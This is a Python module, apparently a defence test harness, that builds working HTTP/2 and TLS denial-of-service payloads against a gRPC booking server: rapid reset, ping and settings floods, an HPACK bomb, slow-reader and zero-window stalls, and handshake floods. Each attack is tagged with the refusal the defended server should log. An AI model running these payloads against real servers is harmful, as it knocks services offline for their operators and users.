"""The attacks. Each says how a connection begins, what it goes on sending, and how many connections there are.

What is sent is made before the clock runs, so that the attacker costs the machine little and hurts the server much.
"""

import ssl
import struct

from wire import (ACK, CHECK, CONTINUATION, DATA, EMPTY_MESSAGE, END_HEADERS, END_STREAM, HEADERS, HELLO, PING, PREFACE,
                  PRIORITY, RST, SETTINGS, WINDOW_MAX, call_fields, frame, literal, settings, window)

STREAMS = 6000  # per connection, then it is made again
CANCEL = struct.pack(">I", 8)


def each_stream(make):
    return b"".join(make(i) for i in range(1, 2 * STREAMS, 2))


def repeated(one):
    return one * (400_000 // len(one))


class Attack:
    def __init__(self, why, body=b"", hello=HELLO, conns=4, reads=True, every_s=0.0, receive_bytes=None, loop=True,
                 answered=False, each_ms=0.15, tls=False, hangs_up=False):
        self.why = why  # the label of the close, or the refusal, that the defended server counts; None: none is due
        self.hello, self.body, self.conns, self.reads = hello, body, conns, reads
        self.every_s = every_s  # a byte at a time, so often; 0: as fast as it goes
        self.receive_bytes = receive_bytes
        self.answered = answered  # a whole answer is due to the first stream
        # What each end that the defence makes may cost: without it the attacker is stuck in its first connections.
        self.each_ms = each_ms
        self.tls = tls  # at the port with TLS, beside honest clients that use it
        self.hangs_up = hangs_up  # at the first byte that comes, and begins anew at once
        self.loop = loop  # the body is sent again and again; else once, and the connection is held


def small_request(i, flags=END_HEADERS | END_STREAM):
    return frame(HEADERS, flags, i, b"\x83\x86\x84\x41\x01x")


def hpack_bomb():
    """4000 bytes into the table, then references to them."""
    block = b"\x83\x86\x84\x41\x01x" + b"\x40" + literal("x", "v" * 4000)[1:]
    return block + b"\xbe" * (16384 - len(block))


def large_headers():
    """Some 60 KB in four frames: over the limit, an answer is due."""
    block = CHECK + literal("x-large", "v" * 15000) * 4
    def make(i):
        parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]
        out = frame(HEADERS, END_STREAM, i, parts[0])
        for n, part in enumerate(parts[1:], 2):
            out += frame(CONTINUATION, END_HEADERS if n == len(parts) else 0, i, part)
        return out
    return b"".join(make(i) for i in range(1, 400, 2))


def reflection(streams, messages):
    """Streams that ask for large answers."""
    fields = call_fields("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
    ask = b"\x22\x1afaregate.v1.BookingService"
    body = (b"\0" + struct.pack(">I", len(ask)) + ask) * messages
    return b"".join(frame(HEADERS, END_HEADERS, i, fields) + frame(DATA, END_STREAM, i, body)
                    for i in range(1, 2 * streams, 2))


def client_hello():
    """One that is good for any number of handshakes: the server works for each, the attacker for none."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    to_server = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), to_server).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return to_server.read()


def stalled_bodies(streams):
    """Questions up to the end of each stream's window, whose answers nobody takes: they wait unread."""
    fields = call_fields("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
    ask = b"\x22\x1afaregate.v1.BookingService"
    body = (b"\0" + struct.pack(">I", len(ask)) + ask) * (262144 // (len(ask) + 5))
    return b"".join(frame(HEADERS, END_HEADERS, i, fields) + b"".join(
        frame(DATA, 0, i, body[at:at + 16384]) for at in range(0, len(body), 16384)) for i in range(1, 2 * streams, 2))


ATTACKS = {
    "rapid reset": Attack("resets", each_stream(lambda i: small_request(i, END_HEADERS) + frame(RST, 0, i, CANCEL))),
    "made you reset": Attack("resets", each_stream(lambda i: small_request(i) + window(i, WINDOW_MAX) * 2)),
    "streams over limit": Attack("resets", each_stream(lambda i: frame(HEADERS, END_HEADERS, i, CHECK))),
    "ping flood": Attack("pings", repeated(frame(PING, 0, 0, b"12345678"))),
    "ping flood, unread": Attack("pings", repeated(frame(PING, 0, 0, b"12345678")), reads=False),
    "settings flood": Attack("flood", repeated(frame(SETTINGS))),
    "settings ack flood": Attack("flood", repeated(frame(SETTINGS, ACK))),
    "priority flood": Attack("flood", repeated(frame(PRIORITY, 0, 1, b"\0\0\0\3\7"))),
    "window update flood": Attack("flood", repeated(window(0, 1)), HELLO),
    "unknown frames": Attack("flood", repeated(frame(0xbb))),
    "empty data": Attack("flood", repeated(frame(DATA, 0, 1)), HELLO + frame(HEADERS, END_HEADERS, 1, CHECK)),
    "continuations": Attack("headers", repeated(frame(CONTINUATION, 0, 1)), HELLO + frame(HEADERS, 0, 1, CHECK)),
    "hpack bomb": Attack("headers", b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, i, hpack_bomb()) for i in range(1, 80, 2))),
    "60 KB headers": Attack(None, large_headers(), answered=True),
    "zero window": Attack("bytes|worker_bytes|conn_bytes|write_timeout", reflection(100, 10),
                          PREFACE + settings(window=0) + frame(SETTINGS, ACK), conns=20, loop=False,
                          each_ms=8),  # 4 MB of answers are made before a connection has too many
    "slow reader": Attack("bytes|worker_bytes|conn_bytes|write_timeout", reflection(100, 10),
                          PREFACE + settings(window=WINDOW_MAX) + frame(SETTINGS, ACK) + window(0, WINDOW_MAX - 65535),
                          conns=20, reads=False, receive_bytes=4096, loop=False),
    "stalled bodies": Attack("bytes|worker_bytes|conn_bytes|write_timeout", stalled_bodies(19),
                             PREFACE + settings(window=0) + frame(SETTINGS, ACK), conns=20, loop=False, each_ms=8),
    "slow headers": Attack("headers_timeout", repeated(literal("x", "y")),
                           HELLO + b"\0\x3f\xff\1\4\0\0\0\1" + CHECK, conns=300, every_s=0.2),
    "slow bodies": Attack(None, b"v" * 100000,
                          HELLO + frame(HEADERS, END_HEADERS, 1, call_fields(
                              "/grpc.health.v1.Health/Check", ("grpc-timeout", "900m")))
                          + b"\0\x20\0\0\0\0\0\0\1" + b"\0\0\0\x20\0", conns=300, every_s=0.2, answered=True),
    "silent connections": Attack("conns|preface", b"", b"", conns=2500, loop=False),
    "half prefaces": Attack("conns|preface", b"", PREFACE[:10], conns=1500, loop=False),
    "half TLS hellos": Attack("handshakes", b"", client_hello()[:100], conns=1500, loop=False, tls=True),
    "silent TLS handshakes": Attack("handshakes", b"", client_hello(), conns=1500, loop=False, tls=True, each_ms=1),
    "TLS handshake flood": Attack("handshake", b"", client_hello(), conns=64, loop=False, tls=True, each_ms=1,
                                  hangs_up=True),
}
